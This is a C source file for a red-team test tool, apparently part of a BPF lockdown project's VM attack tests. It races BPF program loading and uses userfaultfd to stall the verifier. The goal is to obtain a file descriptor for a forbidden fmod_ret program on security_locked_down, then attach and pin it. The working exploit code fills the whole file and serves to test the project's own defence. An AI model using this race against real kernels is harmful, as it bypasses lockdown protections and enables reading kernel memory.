// SPDX-License-Identifier: GPL-2.0
/*
 * fdrace.c - `ratchet-fdrace [SECONDS]`: race BPF_PROG_LOAD for an fd by
 * id (red team 2, tests/vm/attacks/rt2-sealed-ns.sh; in a test VM only).
 * One thread loads, again and again, fmod_ret on security_locked_down
 * returning 1 for LOCKDOWN_BPF_READ_KERNEL (as fmodret.bpf.c), which the
 * lock's bpf_prog hook refuses when the load's fd is made; the other takes
 * an fd by id to each new program id the moment it appears, between
 * bpf_prog_alloc_id() and the loader's own fd (bpf_prog_load(),
 * kernel/bpf/syscall.c, 6.1 to 7.2). ratchet_bpf_prog allows that fd only
 * if the program was loaded before sealed_ns: a lock whose state says it
 * sealed in the future lets it through. The fd won is attached and the
 * link pinned at /sys/fs/bpf/rt2-fdrace. Exit 0 attached, 1 the race was
 * never won, 2 other.
 *
 * `ratchet-fdrace span K READY GO` (tests/vm/attacks/rt3-span.sh): K
 * loads that begin before the first lock and end after it (span()).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

#define NAME "rt2_fdrace"

static volatile int won = -1, stop;
static __u32 last;
static int by_id_refused; /* fds by id refused (EPERM) */

static int enum_value(const struct btf *btf, const char *type, const char *name)
{
	int id = btf__find_by_name_kind(btf, type, BTF_KIND_ENUM), i;
	const struct btf_type *t = id > 0 ? btf__type_by_id(btf, id) : NULL;
	const struct btf_enum *e = t ? btf_enum(t) : NULL;

	for (i = 0; t && i < btf_vlen(t); i++, e++)
		if (!strcmp(btf__name_by_offset(btf, e->name_off), name))
			return e->val;
	return -1;
}

/* Take an fd by id to every program id newer than @last, until one is ours. */
static void *grab(void *arg)
{
	(void)arg;
	while (!stop && won < 0) {
		struct bpf_prog_info info = {};
		__u32 next, len = sizeof(info);
		int fd;

		if (bpf_prog_get_next_id(last, &next))
			continue;
		fd = bpf_prog_get_fd_by_id(next);
		if (fd < 0 && errno == EPERM)
			by_id_refused++;
		if (fd < 0) {
			last = next;
			continue;
		}
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) &&
		    !strcmp(info.name, NAME)) {
			won = fd;
			break;
		}
		close(fd);
		last = next;
	}
	return NULL;
}

/* fmod_ret on security_locked_down returning 1 for bpf-read-kernel. */
static int insns(struct bpf_insn *p, __u32 *fid)
{
	struct btf *btf = btf__load_vmlinux_btf();
	int rk, id;

	if (!btf)
		return -1;
	rk = enum_value(btf, "lockdown_reason", "LOCKDOWN_BPF_READ_KERNEL");
	id = btf__find_by_name_kind(btf, "security_locked_down", BTF_KIND_FUNC);
	btf__free(btf);
	if (rk < 0 || id < 0)
		return -1;
	struct bpf_insn q[] = {
		/* r0 = 0; r2 = ctx[0] (what); if r2 != rk goto +1; r0 = 1 */
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
		{ .code = BPF_LDX | BPF_MEM | BPF_DW,
		  .dst_reg = 2,
		  .src_reg = 1 },
		{ .code = BPF_JMP | BPF_JNE | BPF_K,
		  .dst_reg = 2,
		  .off = 1,
		  .imm = rk },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	memcpy(p, q, sizeof(q));
	*fid = (__u32)id;
	return 0;
}

/* Attach the fd won and pin its link at @pin. */
static int attach(int fd, const char *pin)
{
	int link = bpf_link_create(fd, 0, BPF_MODIFY_RETURN, NULL);

	if (link < 0) {
		printf("fdrace: attaching: %s\n", strerror(errno));
		return 2;
	}
	unlink(pin);
	if (bpf_obj_pin(link, pin)) {
		printf("fdrace: pinning: %s\n", strerror(errno));
		return 2;
	}
	printf("fdrace: fmod_ret/security_locked_down attached, pinned at %s\n",
	       pin);
	return 0;
}

/* The newest program id now: the grabber starts after it. */
static void newest(void)
{
	bpf_prog_get_next_id(0, &last);
	while (!bpf_prog_get_next_id(last, &last))
		;
}

static int race(int secs)
{
	struct bpf_insn p[5];
	__u32 fid;
	long tries = 0, loaded = 0;
	time_t end = time(NULL) + secs;
	pthread_t t;
	int fd;

	if (insns(p, &fid))
		return 2;
	LIBBPF_OPTS(bpf_prog_load_opts, o,
		    .expected_attach_type = BPF_MODIFY_RETURN,
		    .attach_btf_id = fid);

	newest();
	pthread_create(&t, NULL, grab, NULL);
	while (won < 0 && time(NULL) < end) {
		fd = bpf_prog_load(BPF_PROG_TYPE_TRACING, NAME, "GPL", p, 5,
				   &o);
		tries++;
		if (fd >= 0) {
			loaded++;
			won = fd;
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("fdrace: %ld loads, %ld returned an fd; race %s\n", tries,
	       loaded, won >= 0 ? "won" : "never won");
	return won < 0 ? 1 : attach(won, "/sys/fs/bpf/rt2-fdrace");
}

/*
 * `span K READY GO`: K loads whose verifier is held before it ends. Each
 * load's verifier log is a page registered with userfaultfd: load_time is
 * set (bpf_prog_load(), kernel/bpf/syscall.c, 6.1 to 7.2), then the
 * verifier's first write to the log (bpf_verifier_vlog(), and in 6.12
 * and 7.2 bpf_vlog_finalize(), kernel/bpf/log.c, both within
 * bpf_check(), before bpf_prog_alloc_id()) faults, and the loading
 * thread waits until the page is given. Once all K wait, READY is
 * written; once GO exists (the caller's lock has run), each load is let
 * go, one at a time, while the grabber takes an fd by id to each new id.
 * Deterministic but for the grabber's window between the id and the
 * loader's own fd (tried K times).
 */
#define SPAN_MAX 64
#define PAGE	 4096

struct span {
	struct bpf_insn p[5];
	__u32 fid;
	char *log;
	int fd;
};

static void *span_load(void *arg)
{
	struct span *sp = arg;
	LIBBPF_OPTS(bpf_prog_load_opts, o,
		    .expected_attach_type = BPF_MODIFY_RETURN,
		    .attach_btf_id = sp->fid, .log_buf = sp->log,
		    .log_size = PAGE, .log_level = 1);

	sp->fd =
		bpf_prog_load(BPF_PROG_TYPE_TRACING, NAME, "GPL", sp->p, 5, &o);
	if (sp->fd < 0)
		sp->fd = -errno;
	return NULL;
}

/* Wait until @n loads fault on their log page (up to 60 s). */
static int held(int uffd, int n)
{
	struct uffd_msg m;
	struct pollfd pf = { .fd = uffd, .events = POLLIN };
	int seen = 0;

	while (seen < n && poll(&pf, 1, 60000) > 0)
		if (read(uffd, &m, sizeof(m)) == sizeof(m) &&
		    m.event == UFFD_EVENT_PAGEFAULT)
			seen++;
	return seen;
}

static void give(int uffd, char *page)
{
	struct uffdio_zeropage z = { .range = { .start = (unsigned long)page,
						.len = PAGE } };

	ioctl(uffd, UFFDIO_ZEROPAGE, &z);
}

static int span(int k, const char *ready, const char *go)
{
	static struct span sp[SPAN_MAX];
	static pthread_t th[SPAN_MAX];
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC), i, n, fd = -1;
	char *log = mmap(NULL, (size_t)k * PAGE, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	FILE *f;

	if (k < 1 || k > SPAN_MAX || uffd < 0 || log == MAP_FAILED ||
	    ioctl(uffd, UFFDIO_API, &api))
		return printf("fdrace: userfaultfd: %s\n", strerror(errno)), 2;
	reg.range.start = (unsigned long)log;
	reg.range.len = (unsigned long)k * PAGE;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg) || insns(sp[0].p, &sp[0].fid))
		return printf("fdrace: setting up: %s\n", strerror(errno)), 2;
	for (i = 0; i < k; i++) {
		sp[i] = sp[0];
		sp[i].log = log + (size_t)i * PAGE;
		pthread_create(&th[i], NULL, span_load, &sp[i]);
	}
	n = held(uffd, k);
	printf("fdrace: %d of %d loads held in the verifier\n", n, k);
	if (n != k || !(f = fopen(ready, "w")))
		return 2;
	fprintf(f, "held %d\n", n);
	fclose(f);
	while (access(go, F_OK))
		usleep(100000);
	newest();
	pthread_create(&th[SPAN_MAX - 1], NULL, grab, NULL);
	for (i = 0; i < k; i++) {
		give(uffd, sp[i].log);
		pthread_join(th[i], NULL);
		if (sp[i].fd >= 0 && won < 0)
			won = sp[i].fd;
		else if (fd < 0 && sp[i].fd < 0)
			fd = sp[i].fd;
		usleep(200000);
		if (won >= 0)
			break;
	}
	for (i++; i < k; i++) {
		give(uffd, sp[i].log);
		pthread_join(th[i], NULL);
	}
	stop = 1;
	pthread_join(th[SPAN_MAX - 1], NULL);
	printf("fdrace: %d loads begun before the lock; %d fds by id "
	       "refused; %s (a load's own fd: %s)\n",
	       k, by_id_refused, won >= 0 ? "an fd was won" : "no fd was won",
	       fd < 0 ? strerror(-fd) : "none refused");
	return won < 0 ? 1 : attach(won, "/sys/fs/bpf/rt3-span");
}

int main(int argc, char **argv)
{
	if (argc == 5 && !strcmp(argv[1], "span"))
		return span(atoi(argv[2]), argv[3], argv[4]);
	return race(argc > 1 ? atoi(argv[1]) : 20);
}
